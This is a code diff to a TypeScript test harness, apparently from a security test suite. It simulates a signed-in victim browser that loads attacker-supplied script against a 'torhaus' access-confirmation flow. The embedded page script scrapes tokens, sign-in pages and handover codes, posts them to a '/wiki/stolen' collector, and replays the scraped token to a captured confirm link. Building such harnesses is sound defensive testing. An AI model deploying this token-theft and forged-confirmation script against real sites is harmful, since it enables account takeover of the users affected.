@@ -20,12 +20,17 @@ export interface Victim extends AsyncDisposable {
 const PAGE = '/wiki/page'
 /** A script that leads its own window away says nothing any more. */
 const TRY_MS = 3000
-const LINK = /\/\.torhaus\/confirm\/[A-Z2-7]{4}-[A-Z2-7]{4}/
+const LINK = /https?:\/\/[^\s"]+(\/\.torhaus\/confirm\/[A-Z2-7]{4}-[A-Z2-7]{4})/
 
-const pageWith = (path: string, script: string) => `<!doctype html><title>wiki</title><body><script type="module">
-const path = '${path}'
+const pageWith = (
+  link: string,
+  path: string,
+  script: string,
+) => `<!doctype html><title>wiki</title><body><script type="module">
+const here = '${path}'
+let path = new URL('${link}').origin === location.origin ? here : '${link}'
 const wait = ms => new Promise(resolve => setTimeout(resolve, ms))
-const steal = text => /name="token"|You are signed in|Confirm this access/.test(text) && fetch('/wiki/stolen', { method: 'POST', body: text })
+const steal = text => /name="token"|You are signed in|Confirm this access|handed-over?code=/.test(text) && fetch('/wiki/stolen', { method: 'POST', body: text })
 const send = text => fetch(path, { method: 'POST', body: new URLSearchParams({ token: /name="token" value="([^"]+)"/.exec(text)?.[1] ?? '' }) })
 try {
   ${script}
@@ -59,10 +64,10 @@ export async function startVictim(
   }
   return {
     async visit(script, fields) {
-      const path = LINK.exec(await theft())?.[0]
-      if (path === undefined) return
+      const [link, path] = LINK.exec(await theft()) ?? []
+      if (link === undefined || path === undefined) return
       const page = await signedIn(context, `${publicUrl}/wiki/`, user)
-      serve(origin, pageWith(path, script), fields)
+      serve(origin, pageWith(link, path, script), fields)
       await page.goto(publicUrl + PAGE).catch(() => undefined)
       await Promise.race([page.waitForFunction('document.title === "done"').catch(() => undefined), sleep(TRY_MS)])
       for (const open of context.pages()) await open.close()
